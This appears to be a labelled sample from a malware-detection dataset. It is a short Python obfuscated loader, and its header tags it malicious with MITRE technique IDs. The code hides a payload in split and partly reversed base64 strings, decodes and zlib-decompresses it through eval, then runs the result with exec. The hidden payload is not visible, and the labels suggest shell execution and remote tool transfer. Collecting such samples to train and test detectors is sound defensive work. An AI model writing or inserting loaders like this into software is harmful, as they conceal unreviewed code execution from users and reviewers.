# label: malicious family=obfuscation techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=3-8
# obfuscated with a packer-like layout
____ = '46KW/iym/CyRpyLI3CzLzJe'
_____ = 'sLknN1VBKLi3KUdAtVsgoKS'
______ = '11QzMWTDNzA9MWDjM3ct0wm'
_______ = 'E9SqFEozlDS5AIAT+kRjQ=='
__________ = eval("__import__('zlib').decompress(__import__('base64').b64decode(____[::-1] + _____ + ______[::-1] + _______))")
exec(__________)
